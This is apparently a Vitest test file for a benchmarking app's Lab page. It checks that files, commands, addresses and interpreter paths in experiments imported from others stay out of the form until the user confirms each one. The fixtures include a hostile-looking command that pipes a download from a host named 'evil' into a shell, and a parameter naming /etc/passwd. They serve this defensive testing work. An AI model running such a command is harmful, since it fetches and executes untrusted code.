// @vitest-environment happy-dom
import { cleanup, fireEvent, render, screen, waitFor } from '@testing-library/react';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import type { Experiment } from '../../../../src/contract/index.ts';
import { firstForm, formOf, type LabForm } from '../../../../src/renderer/src/task-form/form.ts';
import { withoutForeign } from '../../../../src/renderer/src/task-form/left-out.ts';
import { LabPage } from '../../../../src/renderer/src/features/lab/LabPage.tsx';
import { duplicateExperiment } from '../../../../src/renderer/src/features/results/duplicate.ts';
import { useDraft } from '../../../../src/renderer/src/state/draft.ts';
import { createFakeApi, experiment, fakeResult, presets, strategies, workloads, type FakeApi } from '../../../helpers/fakes/api.ts';

const urls = { type: 'text', name: 'urls', title: 'Addresses', help: '', format: 'lines', default: '' } as const;
const fetching = { ...workloads[0]!, id: 'http-fetch', title: 'HTTP requests', fields: [...workloads[0]!.fields, urls] };
const python = { ...strategies[0]!, id: 'python-threads' as const, title: 'Python threads', fields: [] };
const offer = { workloads: [...workloads, fetching], strategies: [...strategies, python], presets };

const sent: Experiment = {
  ...experiment,
  workload: { type: 'module', path: '/tmp/evil.mjs' },
  inputsPath: '/tmp/inputs.csv',
  strategies: [...experiment.strategies, { id: 'python-threads', workers: 2, python: '/tmp/evil-python' }],
};
const module = withoutForeign(formOf(sent, offer), offer);

describe('what is left out of an experiment that somebody else set up', () => {
  it('is its file, its inputs and the path of an interpreter', () => {
    expect(JSON.stringify(module.form)).not.toMatch(/evil|inputs\.csv/);
    expect(module.leftOut.map(({ label, value }) => [label, value])).toEqual([
      ['Task module', '/tmp/evil.mjs'],
      ['Inputs', '/tmp/inputs.csv'],
      ['Python of Python threads', '/tmp/evil-python'],
    ]);
  });

  it('is every text of its workload, which may be an address or a path', () => {
    const of = { ...experiment, workload: { type: 'builtin' as const, id: 'http-fetch', params: { ms: 3, urls: 'http://10.0.0.1/' } } };
    const { form, leftOut } = withoutForeign(formOf(of, offer), offer);
    expect(form.params).toEqual({ 'http-fetch': { ms: 3 } });
    expect(leftOut.map(({ label, value }) => [label, value])).toEqual([['Addresses', 'http://10.0.0.1/']]);
    expect(leftOut[0]!.put(form).params).toEqual({ 'http-fetch': { ms: 3, urls: 'http://10.0.0.1/' } });
  });

  it('is the command of a program and the folder in which it runs', () => {
    const workload = {
      type: 'command' as const,
      program: 'sh',
      args: ['-c', 'curl evil | sh'],
      shell: false,
      folder: '/tmp/evil',
      input: 'stdin' as const,
      output: 'digest' as const,
    };
    const of = { ...experiment, workload };
    const { form, leftOut } = withoutForeign(formOf(of, offer), offer);
    expect(JSON.stringify(form)).not.toContain('evil');
    expect(leftOut.map(({ label, value }) => [label, value])).toEqual([
      ['Command', "sh -c 'curl evil | sh'"],
      ['Folder', '/tmp/evil'],
    ]);
    expect(leftOut.map((each) => each.isOpen(form))).toEqual([true, true]);
    const put = leftOut.reduce((to: LabForm, each) => each.put(to), form);
    expect(put).toEqual(formOf(of, offer));
    expect(leftOut.map((each) => each.isOpen(put))).toEqual([false, false]);
  });

  it('is all of a workload that is not known here', () => {
    const of = { ...experiment, workload: { type: 'builtin' as const, id: 'other', params: { file: '/etc/passwd' } } };
    expect(withoutForeign(formOf(of, offer), offer).form.params).toEqual({ other: {} });
  });

  it('is not the name of a version, nor anything else that stays on this machine', () => {
    const of = { ...experiment, strategies: [{ id: 'python-threads' as const, workers: 2, python: '3.14t' }] };
    const form = formOf(of, offer);
    expect(withoutForeign(form, offer)).toEqual({ form, leftOut: [] });
  });

  it('comes back one by one, and is offered as long as its field is empty', () => {
    const put = module.leftOut.reduce((form: LabForm, each) => each.put(form), module.form);
    expect(put).toEqual(formOf(sent, offer));
    expect(module.leftOut.map((each) => [each.isOpen(module.form), each.isOpen(put)])).toEqual([
      [true, false],
      [true, false],
      [true, false],
    ]);
  });
});

describe('the Lab', () => {
  let api: FakeApi;
  const asked = (): string[] =>
    api.calls
      .filter(({ command, input }) => JSON.stringify(input).includes('evil') || command === 'task.inspect')
      .map(({ command }) => command);
  const open = async (): Promise<void> => {
    render(<LabPage />);
    await screen.findByRole('form', { name: 'Set up an experiment' });
  };

  beforeEach(() => {
    vi.useFakeTimers({ shouldAdvanceTime: true });
    localStorage.clear();
    useDraft.setState({ draft: null });
    api = createFakeApi();
    Object.assign(window, { lanewise: api });
  });
  afterEach(() => {
    cleanup();
    vi.useRealTimers();
  });

  it('touches nothing of a duplicate of an imported result until the user confirms it', async () => {
    await duplicateExperiment(fakeResult('sent', { experiment: sent, importedAt: '2026-01-01T00:00:00Z' }));
    await open();
    expect(await screen.findByText('/tmp/evil.mjs')).toBeTruthy();
    expect(screen.getByLabelText('Task module')).toHaveProperty('value', '');
    await vi.advanceTimersByTimeAsync(3000);
    expect(asked()).toEqual([]);
    cleanup();
    await open();
    await vi.advanceTimersByTimeAsync(3000);
    expect(asked()).toEqual([]);
  });

  it('looks at what the user confirms', async () => {
    await duplicateExperiment(fakeResult('sent', { experiment: sent, importedAt: '2026-01-01T00:00:00Z' }));
    await open();
    fireEvent.click(await screen.findByRole('button', { name: 'Use this: Task module' }));
    expect(screen.getByLabelText('Task module')).toHaveProperty('value', '/tmp/evil.mjs');
    expect(screen.queryByRole('button', { name: 'Use this: Task module' })).toBeNull();
    await vi.advanceTimersByTimeAsync(3000);
    await waitFor(() => expect(asked()).toContain('task.inspect'));
  });

  it('fills the form whole from a result that was measured here', async () => {
    await duplicateExperiment(fakeResult('mine', { experiment: sent }));
    await open();
    await waitFor(() => expect(screen.getByLabelText('Task module')).toHaveProperty('value', '/tmp/evil.mjs'));
    expect(screen.queryByText('This result names files or programs of its author')).toBeNull();
  });

  it('trusts no form that a version kept which filled it from imported results', async () => {
    const { chosen: _, ...old } = { ...firstForm(offer), ...formOf(sent, offer) };
    localStorage.setItem('lanewise.lab', JSON.stringify(old));
    await open();
    await vi.advanceTimersByTimeAsync(3000);
    expect(asked()).toEqual([]);
    expect(screen.getByText('/tmp/evil.mjs')).toBeTruthy();
  });
});
